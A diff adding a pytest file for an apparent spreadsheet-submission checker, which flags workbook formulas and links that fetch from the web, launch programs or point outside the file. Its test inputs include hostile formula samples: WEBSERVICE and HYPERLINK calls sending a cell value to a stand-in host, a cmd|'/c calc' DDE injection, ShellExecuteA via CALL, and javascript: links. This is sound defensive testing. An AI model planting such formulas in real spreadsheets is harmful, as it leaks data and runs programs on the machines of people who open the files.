@@ -1,0 +1,133 @@
+"""What runs, fetches or leads elsewhere is found by what it is; what is honest is let be."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from perfeval_xl.returns.active_content import source_of
+from perfeval_xl.returns.active_formulas import Leads, leads_where, what_it_does
+from tests import making
+from tests.making import BOOK, FORM, Parts, at
+from tests.returns import active_edits
+from tests.returns.check_edited import checked, codes
+from tests.returns.tampering import Edit
+
+DOES = {
+    'WEBSERVICE("http://a.example/?"&J24)': "会从网上或别的程序取数",
+    '_xlfn.WEBSERVICE("http://a.example")': "会从网上或别的程序取数",
+    'COM.MICROSOFT.WEBSERVICE("http://a.example")': "会从网上或别的程序取数",
+    '1+webservice ("http://a.example")': "会从网上或别的程序取数",
+    '_xlfn.IMAGE("http://a.example/1.png")': "会从网上或别的程序取数",
+    'RTD("a.b","","c")': "会从网上或别的程序取数",
+    'CUBEVALUE("x","y")': "会从网上或别的程序取数",
+    'DDE("soffice","a","b")': "会从网上或别的程序取数",
+    'CALL("Shell32","ShellExecuteA","JJCCCJJ",0)': "会运行程序",
+    'REGISTER.ID("a","b")': "会运行程序",
+    "GET.WORKSPACE(1)": "会运行程序",
+    'EXEC("calc")': "会运行程序",
+    "cmd|'/c calc'!A1": "会启动别的程序",
+    "cmd | '/c calc'!A1": "会启动别的程序",
+    "[1]Sheet1!$A$1": "引用了别的文件",
+    "'[总表.xlsx]Sheet 1'!A1": "引用了别的文件",
+    r"'\\host\share\[x.xlsx]S'!A1": "引用了别的文件",
+    "'http://a.example/[x.xlsx]S'!A1": "引用了别的文件",
+    'HYPERLINK("\\\\host\\share\\a.exe","看")': "会打开别的文件或网址",
+    'HYPERLINK("http://a.example/?"&J24,"看")': "会打开别的文件或网址",
+    'HYPERLINK(A1,"看")': "会打开别的文件或网址",
+}
+
+
+@pytest.mark.parametrize(("formula", "does"), DOES.items())
+def test_a_formula_that_fetches_or_runs_is_known(formula: str, does: str) -> None:
+    assert what_it_does(formula) == does
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(J16:J24)",
+        'IF(A1="见[附件1]！","WEBSERVICE(","|")',
+        'HYPERLINK("#\'自评表\'!A1","自评表!A1")',
+        'HYPERLINK("https://www.example.cn/","公开页")',
+        "Table1[金额]+1",
+        "SUM(表1[[#All],[金额]])",
+        "-因汛期停工",
+        "RECALL(1)+MY_CALL(2)+IMAGES(3)",
+        "'自评表（新）'!A1",
+    ],
+)
+def test_a_formula_that_only_computes_is_let_be(formula: str) -> None:
+    assert what_it_does(formula) == ""
+
+
+@pytest.mark.parametrize(
+    ("target", "leads"),
+    [
+        ("#自评表!A1", None),
+        ("", None),
+        ("http://www.example.cn", Leads.WEB),
+        ("mailto:a@b.cn", Leads.WEB),
+        ("佐证材料.pdf", Leads.FILE),
+        ("../材料/照片.jpg", Leads.FILE),
+        ("C:\\材料\\照片.jpg", Leads.FILE),
+        ("file:///C:/材料/照片.jpg", Leads.FILE),
+        ("\\\\host\\share\\a.pdf", Leads.OUTSIDE),
+        ("//host/share/a.pdf", Leads.OUTSIDE),
+        ("file://host/share/a.pdf", Leads.OUTSIDE),
+        ("file:///\\\\host\\share\\a.pdf", Leads.OUTSIDE),
+        ("工具.exe", Leads.OUTSIDE),
+        ("file:///C:/a.bat", Leads.OUTSIDE),
+        ("javascript:alert(1)", Leads.OUTSIDE),
+        ("ms-excel:ofe|u|http://a", Leads.OUTSIDE),
+    ],
+)
+def test_where_a_link_leads(target: str, leads: Leads | None) -> None:
+    assert leads_where(target) is leads
+
+
+def test_the_part_that_relationships_are_of() -> None:
+    assert source_of("xl/_rels/workbook.xml.rels") == "xl/workbook.xml"
+    assert source_of("_rels/.rels") == ""
+
+
+def label_item(parts: Parts) -> None:
+    """A label and properties that an office puts into every document."""
+    parts["customXml/item1.xml"] = (
+        b'<p:properties xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties"/>'
+    )
+    active_edits.related(parts, BOOK, "customXml", "../customXml/item1.xml")
+
+
+HONEST: dict[str, Edit] = {
+    "a document label": label_item,
+    "settings of a printer": active_edits.added(
+        "xl/printerSettings/printerSettings1.bin", b"\0\0", source=FORM, kind="printerSettings"
+    ),
+    "pictures in cells as WPS keeps them": active_edits.added(
+        "xl/cellimages.xml", b"<cellImages/>", kind="http://www.wps.cn/officeDocument/2020/cellImage"
+    ),
+    "persons of threaded notes": active_edits.added(
+        "xl/persons/person.xml",
+        b"<personList/>",
+        kind="http://schemas.microsoft.com/office/2017/10/relationships/person",
+    ),
+    "a page typed into an answer": active_edits.linked(at("i01.reason"), "http://www.example.cn/"),
+    "an address for mail beside the form": active_edits.linked("T30", "mailto:a@b.cn"),
+    "a place in the workbook, as LibreOffice keeps it": active_edits.linked("K1", "#校验!A1"),
+    "a negative explanation that became a formula": active_edits.explained("-因汛期停工", "#NAME?"),
+    "a name for the print area": active_edits.named("_xlnm.Print_Area", "自评表!$A$1:$K$30", localSheetId="0"),
+    "a type for parts that are not there": lambda parts: active_edits.typed(
+        parts, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"
+    ),
+    "a drawing on which nothing is": active_edits.drawn(""),
+    "a hidden note": active_edits.vml(active_edits.vml_object("Note", "9, 0, 23, 0, 10, 0, 24, 0")),
+}
+
+
+@pytest.mark.parametrize("edit", HONEST.values(), ids=HONEST.keys())
+def test_what_programs_keep_of_themselves_is_not_told(edit: Edit, tmp_path: Path) -> None:
+    submission = checked(making.book(tmp_path / "自评表.xlsx"), edit)
+    assert submission.genuine is True
+    assert codes(submission) == set()
